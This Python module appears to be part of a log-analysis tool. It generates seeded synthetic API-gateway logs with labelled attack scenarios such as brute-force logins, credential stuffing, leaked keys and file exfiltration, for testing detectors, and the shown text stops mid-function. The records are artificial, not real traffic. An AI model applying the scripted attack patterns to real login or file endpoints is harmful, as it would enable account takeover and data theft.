"""Seeded synthetic API-gateway access traffic for an LLM API platform, with labelled attack scenarios.

Used by ``logwarden demo`` (the embedded pipeline), by integration tests and for evaluating detectors.
The same seed and arguments always give byte-identical output (no global ``random``, no wall clock), and
the normal traffic of a seed does not depend on which scenarios are injected.

>>> events = list(generate_api_access(seed=1, duration=timedelta(minutes=10), scenarios=["brute_force"]))
>>> events == list(generate_api_access(seed=1, duration=timedelta(minutes=10), scenarios=["brute_force"]))
True
>>> sorted({e.scenario for e in events if e.scenario})
['brute_force']
>>> to_json_line(events[0])[:14]
b'{"timestamp":"'

Raw event schema (one JSON object per request, keys always present and in this order; what the gateway
emits and what the ``api_access`` parser consumes):

==============  ===============  ==========================================================================
key             type             meaning
==============  ===============  ==========================================================================
timestamp       str              RFC 3339 UTC with milliseconds, ``2026-11-02T08:00:00.123Z``
request_id      str              ``req_`` + 24 hex chars
client_ip       str              the gateway's view of the client (a corporate egress for proxied orgs)
forwarded_for   list[str]        X-Forwarded-For chain (empty, or the internal address behind a proxy)
api_key_id      str | None       ``key_`` + 16 alnum; None for password logins, session and OAuth auth
user_id         str              ``user_`` + 12 alnum (for logins: the targeted account)
org_id          str              ``org_`` + 12 alnum
auth_method     str              ``api_key`` | ``password`` | ``session`` | ``oauth``
mfa             bool             MFA satisfied for this session/login (False for API keys, failed logins)
method          str              HTTP method
path            str              concrete path, ``/v1/files/file_abc123/content``
route           str              route template, ``/v1/files/{file_id}/content``
query           str              raw query string without ``?`` (``""`` when none)
status          int              HTTP status
latency_ms      float            gateway latency (inference: grows with output tokens)
bytes_in        int              request bytes (grows with input tokens)
bytes_out       int              response bytes (grows with output tokens / file size)
model           str | None       model name for inference endpoints
input_tokens    int              0 when not an inference call or not successful
output_tokens   int              idem
user_agent      str              SDK user agents for API traffic, browser user agents for logins and sessions
tls_version     str              ``TLSv1.3`` mostly, some ``TLSv1.2``
==============  ===============  ==========================================================================

Normal traffic: ``n_orgs`` organisations with Zipf-like sizes and traffic shares, users with 1-3 API keys,
1-3 usual IPs (public /16 prefixes per country, some IPv6, corporate egress proxies), a per-user SDK and
endpoint profile (chat apps, RAG pipelines, batch users), log-normal token counts per model, latency and
bytes correlated with tokens, realistic status mixes (mostly 200, some 429 and 400, rare 5xx and 401),
and a mild diurnal rate (``rate_per_s`` is the daily mean, peak at 15:00 UTC). Interactive logins
(``POST /v1/auth/login``, then ``/v1/auth/mfa/verify`` for MFA users, then a few session requests) are
mostly successful; a normal user has at most 2 authentication failures (401) in any 5 minutes.

Scenarios (``SCENARIOS``; each placed at a seeded time in the window, from its own attacker network,
``ATTACKER_NETWORKS``; every injected event carries the scenario name, normal events carry None):

- ``brute_force``: one IP, 30-60 failed password logins (401) against one existing user within ~3 minutes,
  user agent ``python-requests/2.31.0``; sometimes one final success, then failed MFA (MFA users) or a
  few session requests on the API keys (takeover).
- ``credential_stuffing``: 1-3 IPs try logins against 40+ different users within 5 minutes, mostly 401.
- ``key_leak``: one API key suddenly used from 20+ IPs in 10+ countries within 15 minutes.
- ``exfiltration``: one user's key lists files, then downloads 60-150 ``/v1/files/{file_id}/content``
  with large responses (tens of MB each) within 20 minutes.
- ``token_spike``: one key's output tokens per request jump ~20x for 10 minutes (from a new IP).
- ``slow_scraping``: a stolen key, from a new cloud IP, enumerates file contents by guessed ids and pages
  through the file list, one request every 10-40 seconds for an hour: low volume, many 404s, many paths.

Content scenarios (``CONTENT_SCENARIOS``: their events go beyond the fixed schema above, so they are kept
apart from ``SCENARIOS``; ``generate_api_access`` accepts both):

- ``payload_attack``: one key, from a new IP, probes the API with SQL injection, XSS, path traversal and
  command injection payloads in the path, the query and (for POST/PUT) an extra ``body`` key (str, the
  request body, appended after ``tls_version``), sometimes with unusual methods (PUT, DELETE, TRACE);
  40-100 requests in ~10 minutes, half of them with a scanner user agent, answered 400/403/404/405.

All events lie in ``[start, start + duration)`` and come out in non-decreasing timestamp order.
"""

from __future__ import annotations

import heapq
import ipaddress
import math
import random
import string
from bisect import bisect
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from typing import Any, Generic, TypeVar

import orjson

__all__ = [
    "ATTACKER_NETWORKS",
    "CONTENT_SCENARIOS",
    "SCENARIOS",
    "Scenario",
    "SyntheticEvent",
    "generate_api_access",
    "to_json_line",
]

Raw = dict[str, Any]
T = TypeVar("T")

_LOWER = string.ascii_lowercase + string.digits
_ALNUM = string.ascii_letters + string.digits
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
_DAY_MS = 86_400_000
_WINDOW_MS = 300_000  # 5 minutes: the window of the failure cap for normal users
_MAX_NORMAL_FAILURES = 2  # per user per 5 minutes
_DIURNAL_AMP = 0.3
_PEAK_HOUR = 15.0
_LOGIN_SHARE = 0.004  # share of request arrivals that start an interactive login
LOGIN_ROUTE = "/v1/auth/login"
MFA_ROUTE = "/v1/auth/mfa/verify"


@dataclass(frozen=True, slots=True)
class SyntheticEvent:
    """One raw gateway event and its label: None for normal traffic, else the injected scenario's name."""

    raw: dict[str, Any]
    scenario: str | None = None


def to_json_line(event: SyntheticEvent) -> bytes:
    """The raw event as one JSON line (orjson, keys in schema order, terminated by ``\\n``)."""
    return orjson.dumps(event.raw, option=orjson.OPT_APPEND_NEWLINE)


class _Choice(Generic[T]):
    """Weighted choice by bisection over cumulative weights (faster than ``Random.choices``)."""

    __slots__ = ("_cum", "_items", "_total")

    def __init__(self, items: Sequence[T], weights: Sequence[float]) -> None:
        self._items = tuple(items)
        cum, acc = [], 0.0
        for w in weights:
            acc += w
            cum.append(acc)
        cum[-1] = math.inf  # bisect can never run past the last item, whatever the rounding
        self._cum, self._total = cum, acc

    def pick(self, rng: random.Random) -> T:
        return self._items[bisect(self._cum, rng.random() * self._total)]


def _pairs(table: Sequence[tuple[T, float]]) -> _Choice[T]:
    return _Choice([item for item, _ in table], [w for _, w in table])


# --- reference data -------------------------------------------------------------------------------------

# country, share of orgs, IPv4 /16 prefixes (ISP- and cloud-like), IPv6 /32 prefix
_COUNTRIES: tuple[tuple[str, float, tuple[str, ...], str], ...] = (
    ("US", 0.36, ("73.162", "98.207", "34.82", "52.14"), "2600:1700"),
    ("DE", 0.10, ("91.64", "84.150", "62.156"), "2a02:8070"),
    ("GB", 0.09, ("81.102", "86.143"), "2a00:23c6"),
    ("FR", 0.07, ("90.84", "88.172"), "2a01:cb00"),
    ("IN", 0.08, ("49.36", "117.211"), "2401:4900"),
    ("JP", 0.06, ("126.72", "153.246"), "240b:10"),
    ("BR", 0.05, ("177.92", "189.38"), "2804:14c"),
    ("CA", 0.07, ("99.228", "142.114"), "2607:fea8"),
    ("SG", 0.05, ("116.86", "119.74"), "2406:3003"),
    ("NL", 0.07, ("84.104", "145.53"), "2a02:a440"),
)
# key_leak: hosting/VPS prefixes across many countries, none of them used by normal traffic
_LEAK_PREFIXES: tuple[tuple[str, str], ...] = (
    ("45.134", "NL"), ("103.152", "SG"), ("91.243", "RU"), ("41.216", "ZA"), ("177.54", "BR"),
    ("104.244", "US"), ("139.59", "IN"), ("51.158", "FR"), ("95.179", "DE"), ("43.131", "JP"),
    ("190.2", "AR"), ("196.251", "NG"), ("14.225", "VN"), ("62.84", "TR"),
)  # fmt: skip
_SCENARIO_PREFIXES: dict[str, tuple[str, ...]] = {
    "brute_force": ("185.220",),
    "credential_stuffing": ("194.180",),
    "key_leak": tuple(p for p, _ in _LEAK_PREFIXES),
    "exfiltration": ("5.253",),
    "token_spike": ("154.47",),
    "slow_scraping": ("167.99",),
    "payload_attack": ("193.37",),
}
ATTACKER_NETWORKS: dict[str, tuple[str, ...]] = {
    name: tuple(f"{p}.0.0/16" for p in prefixes) for name, prefixes in _SCENARIO_PREFIXES.items()
}
"""Scenario name → the IPv4 networks its attackers come from (disjoint from normal traffic)."""

_SDK_UAS = _pairs([
    ("openai-python/1.54.3", 0.30), ("openai-python/1.51.0", 0.10), ("OpenAI/NodeJS/4.71.0", 0.20),
    ("OpenAI/NodeJS/4.67.3", 0.06), ("python-requests/2.32.3", 0.10), ("python-httpx/0.27.2", 0.06),
    ("Go-http-client/2.0", 0.06), ("axios/1.7.7", 0.05), ("okhttp/4.12.0", 0.03), ("curl/8.5.0", 0.04),
])  # fmt: skip
_OAUTH_UAS = ("Zapier", "n8n/1.64.0", "Make/production")
_BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
    "Safari/537.36 Edg/130.0.0.0",
)
# model: (median output tokens, log-normal sigma, ms per output token, base latency ms)
_CHAT_MODELS: dict[str, tuple[float, float, float, float]] = {
    "gpt-4.1": (220.0, 0.9, 21.0, 450.0),
    "gpt-4.1-mini": (180.0, 0.9, 10.0, 300.0),
    "gpt-4.1-nano": (110.0, 0.8, 5.0, 180.0),
    "o4-mini": (850.0, 0.8, 7.0, 900.0),
}
_CHAT_MODEL = _pairs([("gpt-4.1-mini", 0.42), ("gpt-4.1", 0.30), ("o4-mini", 0.18), ("gpt-4.1-nano", 0.10)])
_EMBED_MODEL = _pairs([("text-embedding-3-small", 0.8), ("text-embedding-3-large", 0.2)])
_LN_INPUT_MEDIAN = math.log(650.0)

# kind: (method, route)
_ENDPOINTS: dict[str, tuple[str, str]] = {
    "chat": ("POST", "/v1/chat/completions"),
    "responses": ("POST", "/v1/responses"),
    "embed": ("POST", "/v1/embeddings"),
    "models": ("GET", "/v1/models"),
    "files_list": ("GET", "/v1/files"),
    "files_upload": ("POST", "/v1/files"),
    "file_content": ("GET", "/v1/files/{file_id}/content"),
    "batch_create": ("POST", "/v1/batches"),
    "batch_list": ("GET", "/v1/batches"),
    "batch_get": ("GET", "/v1/batches/{batch_id}"),
    "ft_create": ("POST", "/v1/fine_tuning/jobs"),
    "ft_list": ("GET", "/v1/fine_tuning/jobs"),
    "keys_list": ("GET", "/v1/organization/api_keys"),
    "keys_create": ("POST", "/v1/organization/api_keys"),
}
_INFERENCE = frozenset({"chat", "responses", "embed"})
_PROFILES: dict[str, dict[str, float]] = {
    "app": {"chat": 0.62, "responses": 0.14, "embed": 0.10, "models": 0.05, "files_list": 0.02,
            "files_upload": 0.012, "file_content": 0.015, "batch_create": 0.004, "batch_list": 0.006,
            "batch_get": 0.008, "ft_create": 0.002, "ft_list": 0.004},
    "rag": {"chat": 0.40, "responses": 0.08, "embed": 0.38, "models": 0.04, "files_list": 0.03,
            "files_upload": 0.03, "file_content": 0.025, "batch_list": 0.004, "batch_get": 0.004,
            "ft_list": 0.002},
    "batch": {"chat": 0.35, "responses": 0.05, "embed": 0.10, "models": 0.03, "files_list": 0.06,
              "files_upload": 0.10, "file_content": 0.12, "batch_create": 0.06, "batch_list": 0.04,
              "batch_get": 0.08, "ft_create": 0.005, "ft_list": 0.01},
}  # fmt: skip
_ADMIN_EXTRA = {"keys_list": 0.004, "keys_create": 0.0008}
_SESSION_KINDS = {"files_list": 0.3, "batch_list": 0.15, "ft_list": 0.15, "models": 0.1, "batch_get": 0.05}
_SESSION_ADMIN_EXTRA = {"keys_list": 0.2, "keys_create": 0.05}
_INFER_STATUS = _pairs([(200, 0.953), (429, 0.026), (400, 0.013), (500, 0.003), (503, 0.004), (401, 0.001)])
_OTHER_STATUS = _pairs([(200, 0.972), (404, 0.010), (400, 0.008), (429, 0.006), (500, 0.003), (401, 0.001)])
_FILES_QUERIES = ("", "", "purpose=batch", "purpose=fine-tune&limit=100", "limit=20&order=desc")


def _kinds(table: dict[str, float]) -> _Choice[str]:
    return _Choice(list(table), list(table.values()))


_PROFILE_KINDS = {(p, admin): _kinds(t | _ADMIN_EXTRA if admin else t) for p, t in _PROFILES.items()
                  for admin in (False, True)}  # fmt: skip
_SESSION_PICK = {False: _kinds(_SESSION_KINDS), True: _kinds(_SESSION_KINDS | _SESSION_ADMIN_EXTRA)}


@lru_cache(maxsize=1024)
def _second_prefix(second: int) -> str:
    return (_EPOCH + timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%S")


def _fmt_ts(ms: int) -> str:
    """Epoch milliseconds as RFC 3339 UTC with milliseconds (``2026-11-02T08:00:00.123Z``)."""
    second, milli = divmod(ms, 1000)
    return f"{_second_prefix(second)}.{milli:03d}Z"


def _rand_str(rng: random.Random, n: int, alphabet: str = _LOWER) -> str:
    return "".join(rng.choices(alphabet, k=n))


def _ipv4(rng: random.Random, prefix: str) -> str:
    return f"{prefix}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _ipv6(rng: random.Random, prefix: str) -> str:
    base = int(ipaddress.IPv6Address(prefix + "::"))  # a /32: three random groups, then ``::`` and a host
    return str(ipaddress.IPv6Address(base | rng.getrandbits(48) << 48 | rng.randrange(1, 2**16)))


# --- the world: orgs, users, keys, addresses ------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Actor:
    """Who sends a request and how: address, forwarded chain, credential, client."""

    client_ip: str
    forwarded_for: tuple[str, ...]
    api_key_id: str | None
    auth_method: str
    mfa: bool
    user_agent: str
    tls_version: str


@dataclass(frozen=True, slots=True)
class _User:
    user_id: str
    org_id: str
    keys: tuple[str, ...]
    ips: tuple[tuple[str, tuple[str, ...]], ...]  # (client_ip, forwarded_for); the first is the usual one
    sdk_ua: str
    browser_ua: str
    tls: str
    mfa: bool
    admin: bool
    oauth: bool
    profile: str
    chat_model: str
    embed_model: str
    files: tuple[str, ...]
    actors: _Choice[_Actor]
    revoked: _Actor  # a revoked key still in use somewhere: the rare 401


@dataclass(frozen=True, slots=True)
class _World:
    users: tuple[_User, ...]
    traffic: _Choice[int]  # user index by traffic share
    keyed: _Choice[int]  # user index by traffic share, API-key users only (scenario victims)


def _build_user(rng: random.Random, org_id: str, country: int, egress: tuple[str, ...], admin: bool) -> _User:
    home = country if rng.random() < 0.85 else rng.randrange(len(_COUNTRIES))
    _, _, prefixes, v6 = _COUNTRIES[home]
    n_ips = rng.choices((1, 2, 3), (0.5, 0.35, 0.15))[0]
    ips: list[tuple[str, tuple[str, ...]]] = []
    if egress:
        internal = f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        ips.append((rng.choice(egress), (internal,)))
    while len(ips) < n_ips:
        ip = _ipv6(rng, v6) if rng.random() < 0.15 else _ipv4(rng, rng.choice(prefixes))
        ips.append((ip, ()))
    n_keys = rng.choices((1, 2, 3), (0.5, 0.3, 0.2))[0]
    keys = tuple("key_" + _rand_str(rng, 16, _ALNUM) for _ in range(n_keys))
    sdk_ua = _SDK_UAS.pick(rng)
    tls = "TLSv1.3" if rng.random() < 0.93 else "TLSv1.2"
    mfa = rng.random() < (0.8 if admin else 0.55)
    oauth = rng.random() < 0.04
    ip_w, key_w = (0.7, 0.2, 0.1), (0.6, 0.3, 0.1)
    actors: list[_Actor] = []
    weights: list[float] = []
    for i, (ip, fwd) in enumerate(ips):
        if oauth:
            actors.append(_Actor(ip, fwd, None, "oauth", False, rng.choice(_OAUTH_UAS), tls))
            weights.append(ip_w[i])
            continue
        for j, key in enumerate(keys):
            actors.append(_Actor(ip, fwd, key, "api_key", False, sdk_ua, tls))
            weights.append(ip_w[i] * key_w[j] * 0.93)
            actors.append(_Actor(ip, fwd, key, "api_key", False, "curl/8.5.0", tls))  # ad-hoc debugging
            weights.append(ip_w[i] * key_w[j] * 0.07)
    revoked_key = "key_" + _rand_str(rng, 16, _ALNUM)
    return _User(
        user_id="user_" + _rand_str(rng, 12),
        org_id=org_id,
        keys=keys,
        ips=tuple(ips),
        sdk_ua=sdk_ua,
        browser_ua=rng.choice(_BROWSER_UAS),
        tls=tls,
        mfa=mfa,
        admin=admin,
        oauth=oauth,
        profile=rng.choices(("app", "rag", "batch"), (0.65, 0.2, 0.15))[0],
        chat_model=_CHAT_MODEL.pick(rng),
        embed_model=_EMBED_MODEL.pick(rng),
        files=tuple("file_" + _rand_str(rng, 20, _ALNUM) for _ in range(rng.randint(3, 30))),
        actors=_Choice(actors, weights),
        revoked=_Actor(ips[0][0], ips[0][1], revoked_key, "api_key", False, sdk_ua, tls),
    )


def _build_world(seed: int, n_orgs: int) -> _World:
    rng = random.Random(f"logwarden-synthetic:{seed}:world")
    country_pick = _Choice(range(len(_COUNTRIES)), [c[1] for c in _COUNTRIES])
    sizes = [max(2, round(48 / (rank + 1) ** 0.95 * rng.uniform(0.8, 1.2))) for rank in range(n_orgs)]
    sizes[0] += max(0, 60 - sum(sizes))  # enough accounts for credential stuffing in tiny worlds
    users: list[_User] = []
    shares: list[float] = []
    for size in sizes:
        org_id = "org_" + _rand_str(rng, 12)
        country = country_pick.pick(rng)
        egress: tuple[str, ...] = ()
        if size >= 5 and rng.random() < 0.3:  # corporate egress proxy in front of the org's users
            egress = tuple(_ipv4(rng, rng.choice(_COUNTRIES[country][2])) for _ in range(rng.randint(1, 2)))
        org_share = size**1.15 * rng.lognormvariate(0.0, 0.5)
        user_w = [rng.lognormvariate(0.0, 1.0) for _ in range(size)]
        total_w = sum(user_w)
        for i, w in enumerate(user_w):
            users.append(_build_user(rng, org_id, country, egress, admin=i == 0 or rng.random() < 0.08))
            shares.append(org_share * w / total_w)
    keyed = [i for i, u in enumerate(users) if not u.oauth]
    return _World(
        users=tuple(users),
        traffic=_Choice(range(len(users)), shares),
        keyed=_Choice(keyed, [shares[i] for i in keyed]),
    )


# --- single requests --------------------------------------------------------------------------------------


def _event(
    rng: random.Random, ms: int, actor: _Actor, user: _User, method: str, path: str, route: str, query: str,
    status: int, latency: float, b_in: int, b_out: int, model: str | None = None, tin: int = 0, tout: int = 0,
) -> Raw:  # fmt: skip
    return {
        "timestamp": _fmt_ts(ms),
        "request_id": f"req_{rng.getrandbits(96):024x}",
        "client_ip": actor.client_ip,
        "forwarded_for": list(actor.forwarded_for),
        "api_key_id": actor.api_key_id,
        "user_id": user.user_id,
        "org_id": user.org_id,
        "auth_method": actor.auth_method,
        "mfa": actor.mfa,
        "method": method,
        "path": path,
        "route": route,
        "query": query,
        "status": status,
        "latency_ms": round(latency, 3),
        "bytes_in": b_in,
        "bytes_out": b_out,
        "model": model,
        "input_tokens": tin,
        "output_tokens": tout,
        "user_agent": actor.user_agent,
        "tls_version": actor.tls_version,
    }


def _error_shape(rng: random.Random, status: int) -> tuple[float, int]:
    """(latency ms, response bytes) of an error response."""
    r = rng.random()
    if status == 429:
        return 2.0 + 10.0 * r, 290 + int(80 * r)
    if status >= 500:
        return (150.0 + 2500.0 * r if status == 500 else 4.0 + 30.0 * r), 140 + int(60 * r)
    return 6.0 + 40.0 * r, 160 + int(140 * r)


def _api_event(
    rng: random.Random, ms: int, actor: _Actor, user: _User, kind: str, status: int,
    model: str | None = None, out_scale: float = 1.0,
) -> Raw:  # fmt: skip
    """One API request of ``kind`` (a key of ``_ENDPOINTS``) with plausible sizes for its status."""
    method, route = _ENDPOINTS[kind]
    path, query, tin, tout = route, "", 0, 0
    ok = status < 400
    if kind == "chat" or kind == "responses":
        model = model or (user.chat_model if rng.random() < 0.75 else _CHAT_MODEL.pick(rng))
        median, sigma, per_token, base = _CHAT_MODELS[model]
        n_in = min(120_000, 8 + int(rng.lognormvariate(_LN_INPUT_MEDIAN, 1.1)))
        b_in = 220 + int(n_in * (3.7 + 0.8 * rng.random()))
        if ok:
            tin, tout = n_in, min(32_768, 1 + int(rng.lognormvariate(math.log(median * out_scale), sigma)))
            latency = (base + tout * per_token + tin * 0.02) * rng.lognormvariate(0.0, 0.25)
            b_out = (380 if kind == "chat" else 900) + int(tout * (4.0 + 0.8 * rng.random()))
            return _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in, b_out,
                          model, tin, tout)  # fmt: skip
    elif kind == "embed":
        model = model or user.embed_model
        n_inputs = min(256, 1 + int(rng.lognormvariate(0.0, 1.2)))
        n_in = n_inputs * (4 + int(rng.lognormvariate(5.3, 0.8)))
        b_in = 120 + int(n_in * (3.7 + 0.8 * rng.random()))
        if ok:
            tin = n_in
            latency = (35.0 + 0.015 * tin) * rng.lognormvariate(0.0, 0.3)
            per_vector = 8_250 if model == "text-embedding-3-small" else 16_450
            return _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in,
                          250 + n_inputs * per_vector, model, tin, 0)  # fmt: skip
    else:
        model = None
        b_in, b_out, latency = 0, 0, 15.0 * rng.lognormvariate(0.4, 0.5)
        if kind == "file_content":
            path = f"/v1/files/{rng.choice(user.files)}/content"
            b_out = int(min(5e8, rng.lognormvariate(math.log(1.5e6), 1.3)))
            latency += b_out / 60_000.0
        elif kind == "files_upload":
            b_in = int(min(5e8, rng.lognormvariate(math.log(1.5e6), 1.4)))
            b_out, latency = 320 + rng.randrange(60), latency + b_in / 20_000.0
        elif kind == "files_list":
            query, b_out = rng.choice(_FILES_QUERIES), 300 + 230 * rng.randint(1, 40)
        elif kind == "batch_get":
            path, b_out = f"/v1/batches/batch_{_rand_str(rng, 20, _ALNUM)}", 900 + rng.randrange(300)
        elif kind in ("batch_list", "ft_list", "keys_list"):
            query, b_out = rng.choice(("", "limit=20", "limit=10")), 400 + 600 * rng.randint(1, 10)
        elif kind == "models":
            b_out = 9_400 + rng.randrange(400)
        else:  # batch_create, ft_create, keys_create: small JSON in, small JSON out
            b_in, b_out = 180 + rng.randrange(200), 700 + rng.randrange(500)
        if ok:
            return _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in, b_out)
    latency, b_out = _error_shape(rng, status)
    return _event(rng, ms, actor, user, method, path, route, query, status, latency, b_in, b_out, model)


def _login_event(rng: random.Random, ms: int, user: _User, actor: _Actor, status: int, route: str = LOGIN_ROUTE) -> Raw:
    """A password login (or MFA verification) for ``user``; ``actor`` gives address and client."""
    latency = (180.0 if route == LOGIN_ROUTE else 40.0) * rng.lognormvariate(0.2, 0.25)  # password hashing
    b_in = 120 + rng.randrange(90)
    b_out = 560 + rng.randrange(120) if status < 400 else 85 + rng.randrange(30)
    return _event(rng, ms, actor, user, "POST", route, route, "", status, latency, b_in, b_out)


def _password_actor(ip: str, fwd: tuple[str, ...], ua: str, tls: str, mfa: bool = False) -> _Actor:
    return _Actor(ip, fwd, None, "password", mfa, ua, tls)


# --- normal traffic ---------------------------------------------------------------------------------------


class _FailureCap:
    """At most ``_MAX_NORMAL_FAILURES`` 401s per normal user in any 5 minutes.

    Failures may be scheduled a little ahead of the arrival clock (login sequences), so the check counts
    every recorded failure later than ``ms - 5 min``; three failures within 5 minutes are then impossible.
    """

    def __init__(self) -> None:
        self._times: dict[str, list[int]] = {}

    def allow(self, user_id: str, ms: int, now_ms: int) -> bool:
        times = self._times.setdefault(user_id, [])
        times[:] = [t for t in times if t > now_ms - _WINDOW_MS]  # now_ms never decreases
        if sum(t > ms - _WINDOW_MS for t in times) >= _MAX_NORMAL_FAILURES:
            return False
        times.append(ms)
        return True


def _login_sequence(rng: random.Random, ms: int, user: _User, cap: _FailureCap) -> list[tuple[int, Raw]]:
    """Interactive sign-in: a rare typo, the login, MFA for MFA users, then a few dashboard requests."""
    now = ms
    ip, fwd = user.ips[0] if rng.random() < 0.8 else rng.choice(user.ips)
    login = _password_actor(ip, fwd, user.browser_ua, user.tls)
    out: list[tuple[int, Raw]] = []
    if rng.random() < 0.06 and cap.allow(user.user_id, ms, ms):
        out.append((ms, _login_event(rng, ms, user, login, 401)))
        ms += 4_000 + rng.randrange(20_000)
    out.append((ms, _login_event(rng, ms, user, login, 200)))
    if user.mfa:
        ms += 5_000 + rng.randrange(25_000)
        if rng.random() < 0.03 and cap.allow(user.user_id, ms, now):
            out.append((ms, _login_event(rng, ms, user, login, 401, MFA_ROUTE)))
            ms += 8_000 + rng.randrange(20_000)
        mfa_actor = _password_actor(ip, fwd, user.browser_ua, user.tls, mfa=True)
        out.append((ms, _login_event(rng, ms, user, mfa_actor, 200, MFA_ROUTE)))
    session = _Actor(ip, fwd, None, "session", user.mfa, user.browser_ua, user.tls)
    pick = _SESSION_PICK[user.admin]
    for _ in range(rng.randint(1, 6)):
        ms += 2_000 + int(rng.expovariate(1 / 40_000))
        out.append((ms, _api_event(rng, ms, session, user, pick.pick(rng), 200)))
    return out


def _normal_traffic(world: _World, seed: int, start_ms: int, end_ms: int, rate: float) -> Iterator[SyntheticEvent]:
    """Poisson arrivals thinned by a diurnal curve; login sequences wait in a small heap to stay ordered."""
    rng = random.Random(f"logwarden-synthetic:{seed}:traffic")
    users, pick_user, n_users = world.users, world.traffic.pick, len(world.users)
    cap = _FailureCap()
    pending: list[tuple[int, int, Raw]] = []
    seq = 0
    peak = 1.0 + _DIURNAL_AMP
    mean_gap_ms = 1000.0 / (rate * peak)
    phase = 2.0 * math.pi / _DAY_MS
    t = float(start_ms)
    while True:
        t += rng.expovariate(1.0) * mean_gap_ms
        if t >= end_ms:
            break
        ms = int(t)
        if rng.random() * peak > 1.0 + _DIURNAL_AMP * math.cos(phase * (ms - _PEAK_HOUR * 3_600_000)):
            continue
        while pending and pending[0][0] <= ms:
            yield SyntheticEvent(heapq.heappop(pending)[2])
        if rng.random() < _LOGIN_SHARE:
            for when, raw in _login_sequence(rng, ms, users[rng.randrange(n_users)], cap):
                if when < end_ms:
                    heapq.heappush(pending, (when, seq, raw))
                    seq += 1
            continue
        user = users[pick_user(rng)]
        kind = _PROFILE_KINDS[user.profile, user.admin].pick(rng)
        status = (_INFER_STATUS if kind in _INFERENCE else _OTHER_STATUS).pick(rng)
        actor = user.actors.pick(rng)
        if status == 401:
            if cap.allow(user.user_id, ms, ms):
                actor = user.revoked if actor.api_key_id else actor
            else:
                status = 200
        yield SyntheticEvent(_api_event(rng, ms, actor, user, kind, status))
    while pending:
        yield SyntheticEvent(heapq.heappop(pending)[2])


# --- scenarios --------------------------------------------------------------------------------------------

_Build = Callable[[random.Random, _World, int, int], list[tuple[int, Raw]]]


@dataclass(frozen=True, slots=True)
class Scenario:
    """An injectable attack: ``span`` is its nominal duration (shrunk to fit short windows)."""

    name: str
    summary: str
    span: timedelta
    build: _Build


def _spread(rng: random.Random, t0: int, span: int, n: int) -> list[int]:
    """``n`` increasing times over ``[t0, t0 + span)``: regular slots with jitter (scripted attackers)."""
    slot = span / n
    return [t0 + int(slot * (i + 0.1 + 0.8 * rng.random())) for i in range(n)]


def _brute_force(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[rng.randrange(len(world.users))]
    attacker = _password_actor(_ipv4(rng, "185.220"), (), "python-requests/2.31.0", "TLSv1.2")
    n_failures = rng.randint(30, 60)
    success = rng.random() < 0.4
    times = _spread(rng, t0, span, n_failures + success)
    out = [(ms, _login_event(rng, ms, user, attacker, 401)) for ms in times[:n_failures]]
    if success:  # the password was guessed at the last attempt
        ms = times[-1]
        out.append((ms, _login_event(rng, ms, user, attacker, 200)))
        if user.mfa:  # stopped by MFA
            for _ in range(2):
                ms += 1_500 + rng.randrange(2_000)
                out.append((ms, _login_event(rng, ms, user, attacker, 401, MFA_ROUTE)))
        else:  # takeover: look at the keys, make one
            session = _Actor(attacker.client_ip, (), None, "session", False, attacker.user_agent, "TLSv1.2")
            for kind in ("keys_list", "keys_create") if user.admin else ("files_list", "keys_list"):
                ms += 1_000 + rng.randrange(4_000)
                status = 200 if user.admin or kind != "keys_list" else 403
                out.append((ms, _api_event(rng, ms, session, user, kind, status)))
    return out


def _credential_stuffing(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    targets = rng.sample(world.users, min(len(world.users), rng.randint(40, 70)))
    ips = [_ipv4(rng, "194.180") for _ in range(rng.randint(1, 3))]
    attempts = [u for u in targets for _ in range(1 if rng.random() < 0.8 else 2)]
    winners = set(rng.sample(range(len(attempts)), rng.randint(0, 2)))
    out = []
    for i, (ms, user) in enumerate(zip(_spread(rng, t0, span, len(attempts)), attempts, strict=True)):
        actor = _password_actor(rng.choice(ips), (), rng.choice(_BROWSER_UAS), "TLSv1.3")
        out.append((ms, _login_event(rng, ms, user, actor, 200 if i in winners else 401)))
    return out


def _key_leak(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[world.keyed.pick(rng)]
    key = rng.choice(user.keys)
    uas = ("curl/8.5.0", "python-requests/2.32.3", "openai-python/1.30.1", "Go-http-client/2.0", "axios/1.6")
    out = []
    for i in range(rng.randint(20, 35)):
        prefix = _LEAK_PREFIXES[i % len(_LEAK_PREFIXES)][0]
        actor = _Actor(_ipv4(rng, prefix), (), key, "api_key", False, rng.choice(uas), "TLSv1.3")
        ms = t0 + int(rng.random() * span * 0.5)
        kinds = ["models"] + ["chat"] * rng.randint(1, 11)
        for kind in kinds:
            if ms >= t0 + span:
                break
            status = rng.choices((200, 429, 400), (0.85, 0.12, 0.03))[0]
            out.append((ms, _api_event(rng, ms, actor, user, kind, status, model="gpt-4.1")))
            ms += 1_000 + int(rng.expovariate(1 / 20_000))
    return out


def _exfiltration(rng: random.Random, world: _World, t0: int, span: int) -> list[tuple[int, Raw]]:
    user = world.users[world.keyed.pick(rng)]
    ua = "python-requests/2.32.3"
    actor = _Actor(_ipv4(rng, "5.253"), (), user.keys[0], "api_key", False, ua, "TLSv1.3")
